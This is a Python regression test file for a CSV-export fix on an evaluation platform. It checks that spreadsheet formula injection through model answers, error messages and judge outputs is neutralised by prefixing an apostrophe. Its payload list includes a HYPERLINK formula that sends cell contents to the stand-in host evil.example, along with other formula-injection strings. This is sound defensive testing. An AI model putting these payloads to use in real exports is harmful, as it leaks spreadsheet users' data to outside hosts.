"""Finding 16: CSV exports did not escape formulas: a cell starting with =, +, - or @ (an LLM's answer, a raw judge
output, an error message) ran as a formula when the export was opened in a spreadsheet. Such text cells now start
with an apostrophe; numbers and the JSONL exports are left as they are."""

import csv
import io
import json

import pytest

from evalplatform.spreadsheet import csv_cell
from scoring.models import GenerationScore
from tests.web.conftest import World, client_for
from tests.web.test_key_never_leaks import content_of

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _csv(world: World, kind: str) -> list[dict[str, str]]:
    response = client_for(world, "researcher").get(f"/api/runs/{world.run.pk}/export/{kind}.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(content_of(response), newline="")))


def test_answers_errors_and_raw_outputs_that_look_like_formulas_stay_text(world: World) -> None:
    for generation, text in zip(world.generations, FORMULAS, strict=False):
        generation.text = text
        generation.error = text
        generation.save()
    GenerationScore.objects.filter(generation=world.generations[0]).update(raw_output=FORMULAS[0])
    rows = {row["id"]: row for row in _csv(world, "generations")}
    for generation, text in zip(world.generations, FORMULAS, strict=False):
        row = rows[str(generation.pk)]
        assert row["answer"] == "'" + text and row["error"] == "'" + text
    scores = [row for row in _csv(world, "scores") if row["generation"] == str(world.generations[0].pk)]
    assert scores and all(row["raw_output"] in ("'" + FORMULAS[0], "") for row in scores)
    assert any(row["raw_output"] == "'" + FORMULAS[0] for row in scores)


def test_numbers_and_plain_text_are_unchanged(world: World) -> None:
    rows = _csv(world, "scores")
    assert {row["value"] for row in rows} >= {"0.0", "1.0", "0.5", "0.75"}
    assert csv_cell(-0.5) == -0.5 and csv_cell("In 1901.") == "In 1901." and csv_cell("") == ""


def test_the_jsonl_export_keeps_the_text_as_it_is(world: World) -> None:
    world.generations[0].text = FORMULAS[0]
    world.generations[0].save()
    response = client_for(world, "researcher").get(f"/api/runs/{world.run.pk}/export/generations.jsonl")
    records = [json.loads(line) for line in content_of(response).splitlines()]
    assert FORMULAS[0] in [r["answer"] for r in records]
